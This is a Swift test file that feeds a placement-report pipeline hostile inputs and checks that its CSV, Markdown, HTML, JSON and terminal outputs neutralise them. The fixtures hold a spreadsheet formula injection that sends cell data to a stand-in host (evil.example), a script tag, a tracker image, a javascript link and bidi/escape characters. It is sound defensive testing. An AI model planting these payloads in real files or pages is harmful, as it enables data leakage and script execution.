import Foundation
import GRDB
@testable import Pipeline
import Report
import Domain
import Testing
import TestSupport

/// A run over hostile exports, checked in the files it publishes (issue 16, items 5–8): no CSV
/// cell runs as a formula, Markdown and HTML show input markup and hidden characters as text,
/// fingerprints are `fp-…` in every output and bare in the history, `report` keeps ids as text.
@Suite("A run's outputs run nothing when opened", .serialized)
struct OutputSafetyRunTests {
    static let hyperlink = "=HYPERLINK(\"http://evil.example/?x=\"&A1;\"Klik hier\")"
    /// The same in a CSV field: quoted, quotes doubled.
    static let hyperlinkField = "\"=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik hier\"\")\""
    static let bidiSite = "AZ \u{202E}gpj.exe\u{1B}[31m"

    /// A faculty whose register has a formula as a site code (`HYP`'s place) and as a site name;
    /// students named `=HYPERLINK(…)`, `+1`, `@SUM(A1)`, `-2+3` and `0000001`; and evaluations at
    /// sites named `<script>…`, a remote image, a javascript link and a bidi override with an
    /// ESC, which the register does not know (UNKNOWN_SITE quotes them).
    func faculty() throws -> (folder: String, definition: PipelineDefinition) {
        let folder = try temporaryFolder()
        func write(_ name: String, _ text: String) throws {
            try text.write(toFile: folder + "/" + name, atomically: true, encoding: .utf8)
        }
        try write("sites.yml", """
            sites:
              - {code: '\(Self.hyperlink)', name: "AZ Hyperlink", kind: hospital, region: peripheral, city: Gent, country: BE}
              - {code: "ZNX", name: '\(Self.hyperlink)', kind: hospital, region: peripheral, city: Gent, country: BE}
            """)
        try write("disciplines.yml", "disciplines:\n  - {code: IG, nl: \"interne geneeskunde\", en: \"internal medicine\"}\n")
        try write("curriculum.yml", "required_weeks: {IG: 8}\nblocks: []\nclinical_weeks: 62\nscientific_weeks: 16\npass_mark: 10\n")
        try write("agreements.csv", """
            Overeenkomst,Stageplaats,Discipline,Capaciteit,Geldig van,Geldig tot,Soort
            A1,AZ Hyperlink,interne geneeskunde,1,2025-07-01,2027-06-30,erkend

            """)
        let row = ",interne geneeskunde,2025-09-01,2025-09-28,hospital,supervisor,final,14,2025-09-30\n"
        let later = ",interne geneeskunde,2025-10-06,2025-11-02,hospital,supervisor,final,12,2025-11-03\n"
        try write("evaluations.csv", "Student ID,Site,Discipline,Start Date,END DATE,Placement kind,Evaluator Role,Status,Final score,Submitted\n"
                  + "\(Self.hyperlinkField),AZ Hyperlink" + row + "+1,\(Self.hyperlinkField)" + row + "@SUM(A1),AZ Hyperlink" + later
                  + "-2+3,AZ Hyperlink" + later + "0000001,AZ Hyperlink" + later + "s6,<script>alert(1)</script>" + row
                  + "s7,![x](http://tracker.example/p.png)" + row + "s8,[x](javascript:alert(1))" + row + "s9,\(Self.bidiSite)" + row)
        try write("p.yml", """
            name: hostile
            output: out
            as_of: 2026-04-15
            sources:
              - {name: agreements, kind: agreements, format: csv, path: agreements.csv, encoding: utf-8, delimiter: ",", dates: ["yyyy-m-d"]}
              - {name: evaluations, kind: evaluations, format: csv, path: evaluations.csv, encoding: utf-8, delimiter: ",", dates: ["yyyy-m-d"]}
            reference: {sites: sites.yml, disciplines: disciplines.yml, curriculum: curriculum.yml}
            report:
              formats: [csv, excel, json, markdown, html]
            """)
        let definition = try DefinitionLoader.load(file: folder + "/p.yml")
        _ = try PipelineRun.run(definition, asOf: nil, today: Day(daysSinceEpoch: 0))
        return (folder, definition)
    }

    func latest(_ folder: String, _ name: String) throws -> String {
        String(decoding: try Data(contentsOf: URL(fileURLWithPath: folder + "/out/latest/" + name)), as: UTF8.self)
    }

    @Test("every CSV of the run, both dialects: formula-like ids and site codes guarded and quoted, numbers bare; JSON raw")
    func csvFiles() throws {
        let (folder, _) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let guarded = "\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1;\"\"Klik hier\"\")\""
        let progress = try latest(folder, "progress.csv"), excelProgress = try latest(folder, "progress.excel.csv")
        for student in [guarded, "\"'+1\"", "\"'@SUM(A1)\"", "\"'-2+3\""] {
            #expect(progress.contains("\n\(student),IG,") && excelProgress.contains("\n\(student);IG;"), "\(student)")
        }
        #expect(progress.contains("\n0000001,IG,4,8,no\n"))
        #expect(try latest(folder, "placements.csv").contains("\n\(guarded),\(guarded),IG,2025-09-01,"), "student and site code")
        #expect(try latest(folder, "capacity.csv").contains("\n\(guarded),IG,2025-2026,1,"))
        #expect(try latest(folder, "capacity.excel.csv").contains("\n\(guarded);IG;2025-2026;1;"))
        #expect(try latest(folder, "audit.csv").contains("\n\(guarded),2025-2026,yes,"))
        for name in ["findings.csv", "findings.excel.csv", "placements.csv", "progress.csv", "capacity.csv", "audit.csv"] {
            let text = try latest(folder, name)
            #expect(!text.contains(",=") && !text.contains(";=") && !text.contains("\n=") && !text.contains("\n+1,"), "\(name)")
        }
        let json = try latest(folder, "progress.json")
        #expect(json.contains("\"student\":\"=HYPERLINK(\\\"http://evil.example/?x=\\\"&A1;\\\"Klik hier\\\")\""))
        #expect(json.contains("\"student\":\"+1\"") && json.contains("\"student\":\"0000001\"") && !json.contains("'="))
    }

    @Test("Python's csv module reads every CSV of the run and finds no formula and no bare fingerprint",
          .enabled(if: FileManager.default.isExecutableFile(atPath: "/usr/bin/python3")))
    func independentReader() throws {
        let (folder, _) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let result = try CommandLineTests().command("/usr/bin/python3", [packageRoot + "/scripts/check_csv_formulas.py",
                                                                         folder + "/out/latest"])
        #expect(result.status == 0, "\(result.out)\(result.err)")
        #expect(result.out.contains(" CSV files, 0 problems"))
    }

    @Test("plan's negative balances stay bare numbers in both CSV dialects")
    func negativeBalance() throws {
        let (folder, definition) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let (rows, _) = try Coordinator.plan(definition: definition, year: PlacementYear(startYear: 2026), students: 100, group: nil)
        let table = Tables.plan.table(rows)
        // IG: demand 100 × 8 = 800 weeks against 365 / 7 = 52.1: balance −747.9 weeks, −14.4 slots.
        #expect(String(decoding: try Coordinator.render(table, format: .csv, title: "p"), as: UTF8.self)
                .contains("\nIG,2026-2027,100,8,800,52.1,-747.9,-14.4,"))
        #expect(String(decoding: try Coordinator.render(table, format: .excel, title: "p"), as: UTF8.self)
                .contains("\nIG;2026-2027;100;8;800;52,1;-747,9;-14,4;"))
    }

    @Test("summary.md and report.html show input markup and hidden characters as text")
    func humanReadable() throws {
        let (folder, _) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let summary = try latest(folder, "summary.md"), page = try latest(folder, "report.html")
        for text in [summary, page] {
            #expect(!text.contains("<script>alert") && !text.contains("\u{202E}") && !text.contains("\u{1B}"))
        }
        #expect(summary.contains("⟨U+202E⟩gpj.exe⟨U+001B⟩\\[31m") && page.contains("⟨U+202E⟩gpj.exe⟨U+001B⟩[31m"))
        // Markdown: every '<', '[' and '!' of the inputs escaped (an unescaped one would start markup).
        let unescaped = summary.replacingOccurrences(of: "\\<", with: "").replacingOccurrences(of: "\\[", with: "")
            .replacingOccurrences(of: "\\!", with: "")
        #expect(!unescaped.contains("<") && !unescaped.contains("[") && !unescaped.contains("!"))
        #expect(summary.contains("\\<script\\>alert(1)\\</script\\>") && summary.contains("\\!\\[x\\](http://tracker.example/p.png)")
                && summary.contains("\\[x\\](javascript:alert(1))"))
        #expect(page.contains("&lt;script&gt;alert(1)&lt;/script&gt;") && !page.contains("src=\"http"))
        let findings = try latest(folder, "findings.csv")
        #expect(findings.contains("\u{202E}gpj.exe\u{1B}[31m"), "the CSV keeps the raw value")
    }

    @Test("report keeps 0000001 as text with its zeros in every format, a JSON string")
    func reportKeepsIds() throws {
        let (folder, definition) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let progress = try Coordinator.report(.progress, definition: definition, filters: .init(year: nil, site: nil, discipline: nil))
        #expect(progress.rows.contains { $0.first == .text("0000001") })
        func render(_ format: Coordinator.OutputFormat) -> String {
            String(decoding: (try? Coordinator.render(progress, format: format, title: "progress")) ?? [], as: UTF8.self)
        }
        #expect(render(.csv).contains("\n0000001,IG,4,8,no\n") && render(.csv).contains("\n0000001,CLINICAL,4,62,no\n"))
        #expect(render(.excel).contains("\r\n0000001;IG;4;8;no\r\n"))
        #expect(render(.json).contains("{\"student\":\"0000001\",\"part\":\"IG\",\"passed_weeks\":4,"))
        #expect(render(.md).contains("| 0000001 | IG | 4 | 8 | nee |"))
        #expect(render(.html).contains("<tr><td>0000001</td><td>IG</td><td class=\"n\" data-value=\"4\">4</td>"))
        // The formula-like ids read back raw and are guarded again on the way out.
        #expect(progress.rows.contains { $0.first == .text(Self.hyperlink) })
        #expect(render(.csv).contains("\n\"'+1\",IG,"))
        // Through the executable too, in every format it offers.
        for format in Coordinator.OutputFormat.allCases where format != .xlsx {
            let result = try CommandLineTests().stagebalans(["report", "progress", "--pipeline", "p.yml", "--format", format.rawValue],
                                                            in: folder)
            #expect(result.status == 0 && result.out.contains("0000001") && !result.out.contains(",1,IG") , "\(format)")
        }
        // The workbook: the id a text cell with its zeros.
        let workbook = try WorkbookReading(try Coordinator.render(progress, format: .xlsx, title: "progress",
                                                                  headings: Coordinator.Kind.progress.headings))
        #expect(try workbook.cells("xl/worksheets/sheet1.xml").contains { $0.type == "inlineStr" && $0.value == "0000001" })
    }

    @Test("the terminal: run, validate and error lines show an ESC or a bidi override as a marker")
    func terminal() throws {
        let (folder, _) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let cli = CommandLineTests()
        let run = try cli.stagebalans(["run", "p.yml", "--force"], in: folder)
        #expect(run.out.contains("⟨U+202E⟩gpj.exe⟨U+001B⟩[31m") && !run.out.contains("\u{1B}") && !run.out.contains("\u{202E}"))
        // suggest-aliases: the alias to paste is the exact name, its hidden characters as YAML escapes.
        let aliases = try cli.stagebalans(["suggest-aliases", "p.yml"], in: folder)
        #expect(aliases.out.contains("{alias: \"AZ \\u202Egpj.exe\\u001b[31m\", site:") && !aliases.out.contains("\u{1B}"),
                "\(aliases.out)")
        try "Student ID,Site,Discipline,Start Date,END DATE,Placement kind,Evaluator Role,Status,Final score,Submitted\n"
            .appending("s1,AZ Hyperlink,interne geneeskunde,\u{1B}[2J\u{202E}2025-09-01,2025-09-28,hospital,supervisor,final,14,2025-09-30\n")
            .write(toFile: folder + "/evaluations.csv", atomically: true, encoding: .utf8)
        let validate = try cli.stagebalans(["validate", "p.yml"], in: folder)
        #expect(validate.out.contains("⟨U+001B⟩[2J⟨U+202E⟩2025-09-01"), "\(validate.out)")
        #expect(!validate.out.contains("\u{1B}") && !validate.out.contains("\u{202E}"))
        let report = try cli.stagebalans(["report", "capacity", "--pipeline", "p.yml", "--site", "\u{1B}[31mAZ\u{202E}"], in: folder)
        #expect(report.status != 0 && report.err.contains("⟨U+001B⟩[31mAZ⟨U+202E⟩") && !report.err.contains("\u{1B}"))
    }

    @Test("fingerprints: fp-… in findings, changes, summary and page; the history keeps them bare, and a history written bare gives no spurious changes")
    func fingerprints() throws {
        let (folder, definition) = try faculty()
        defer { try? FileManager.default.removeItem(atPath: folder) }
        let findings = try latest(folder, "findings.csv")
        let printed = findings.split(separator: "\n").dropFirst().map { String($0.split(separator: ",")[2]) }
        #expect(!printed.isEmpty && printed.allSatisfy { $0.hasPrefix("fp-") && $0.count == 19 })
        #expect(try latest(folder, "findings.json").contains("\"fingerprint\":\"\(printed[0])\""))
        #expect(try latest(folder, "report.html").contains("<li data-fingerprint=\"\(printed[0])\">"))
        // The history as every version wrote it: bare hex at the start of each line.
        let store = try HistoryStore.open(directory: folder + "/out")
        let runID = try #require(try store.lastPublished()?.run.id)
        let stored = try store.findings(of: runID, notIn: []).gone.map(\.fingerprint)
        #expect(Set(stored) == Set(printed.map { String($0.dropFirst(3)) }) && stored.allSatisfy { $0.count == 16 })
        // The next night on the same inputs, compared with that history: nothing new, nothing resolved.
        Thread.sleep(forTimeInterval: 1.1)  // a run's id is its start to the second
        _ = try PipelineRun.run(definition, options: RunOptions(asOf: nil, today: Day(daysSinceEpoch: 0), forAuditors: false, force: true))
        let unchanged = try latest(folder, "changes.csv")
        #expect(!unchanged.contains("NEW_FINDING") && !unchanged.contains("RESOLVED_FINDING"), "\(unchanged)")
        // A night where the script site's row is gone: its finding resolves, named fp-… from the bare history.
        let evaluations = try String(contentsOfFile: folder + "/evaluations.csv", encoding: .utf8)
        try evaluations.replacingOccurrences(of: "s6,<script>alert(1)</script>", with: "s6,AZ Hyperlink")
            .write(toFile: folder + "/evaluations.csv", atomically: true, encoding: .utf8)
        Thread.sleep(forTimeInterval: 1.1)
        _ = try PipelineRun.run(definition, asOf: nil, today: Day(daysSinceEpoch: 0))
        let changes = try latest(folder, "changes.csv")
        let resolved = try #require(changes.split(separator: "\n").first { $0.hasPrefix("RESOLVED_FINDING,UNKNOWN_SITE,") })
        let before = String(resolved.split(separator: ",", omittingEmptySubsequences: false)[3])
        #expect(before.hasPrefix("fp-") && printed.contains(before), "\(resolved)")
        #expect(try latest(folder, "summary.md").contains(before))
    }
}
